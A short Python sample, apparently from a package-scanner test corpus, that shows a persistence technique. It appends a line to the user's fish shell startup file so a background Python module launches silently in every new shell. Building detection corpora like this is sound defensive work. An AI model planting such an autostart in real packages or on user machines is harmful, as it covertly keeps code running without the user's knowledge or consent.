# pkgguard corpus 323 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

config = os.path.join(os.path.expanduser("~"), ".config", "fish", "config.fish")
line = f"\n{sys.executable} -m pkg.agent >/dev/null 2>&1 &\n"
os.makedirs(os.path.dirname(config), exist_ok=True)
with open(config, "a") as f:
    f.write(line)
